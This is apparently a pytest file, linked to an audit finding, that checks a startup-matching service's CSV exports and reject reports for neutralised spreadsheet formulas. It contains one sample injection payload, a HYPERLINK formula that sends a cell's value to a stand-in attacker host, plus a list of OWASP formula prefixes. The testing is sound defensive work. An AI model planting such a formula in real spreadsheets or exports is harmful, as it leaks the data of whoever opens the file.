"""Finding 4: a startup named like a spreadsheet formula is exported as text, not as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from typer.testing import CliRunner

from matcher.cli.main import app as cli_app
from matcher.ingest.report import RowError, write_rejects
from matcher.settings import Settings, get_settings
from matcher.store import Startup, Store, keys
from matcher.text import spreadsheet_safe
from service.app import create_app
from tests.digests.conftest import make_batch

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'


def _poisoned_batch(store: Store) -> int:
    with store.session() as session:
        row = session.scalar(select(Startup).where(Startup.external_id == "S-PAY"))
        assert row is not None
        row.name = FORMULA
    return make_batch(store, {"S-PAY": ["T-PAY-1"], "S-IRRI": ["T-IRR-1"]})


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutralised(text: str) -> None:
    cells = _cells(text)
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_api_csv_export_neutralises_formulas(world: Store, digest_settings: Settings) -> None:
    batch_id = _poisoned_batch(world)
    with world.session() as session:
        _, staff = keys.create_key(session, "staff", name="amina")
    with TestClient(create_app(digest_settings, load_engine=False)) as client:
        response = client.get(
            f"/digests/{batch_id}/export", params={"format": "csv"}, headers={"Authorization": f"Bearer {staff}"}
        )
    assert response.status_code == 200, response.text
    _assert_neutralised(response.text)


def test_cli_export_neutralises_formulas(
    world: Store, digest_settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    batch_id = _poisoned_batch(world)
    monkeypatch.setenv("TREMPLIN_EMBEDDER", "hashing")
    get_settings.cache_clear()
    out = tmp_path / "batch.csv"
    result = CliRunner().invoke(cli_app, ["digest", "export", str(batch_id), "--output", str(out)])
    assert result.exit_code == 0, result.output
    _assert_neutralised(out.read_text(encoding="utf-8"))


def test_reject_report_neutralises_formulas(tmp_path: Path) -> None:
    path = tmp_path / "rejects.csv"
    write_rejects(path, [RowError(line=2, field="name", reason="-bad", external_id="@SUM(A1)", raw=None)])
    cells = _cells(path.read_text(encoding="utf-8"))
    assert "'@SUM(A1)" in cells and "'-bad" in cells


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_owasp_prefixes_get_an_apostrophe(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell
    assert spreadsheet_safe("PayNova") == "PayNova" and spreadsheet_safe(-1.5) == -1.5
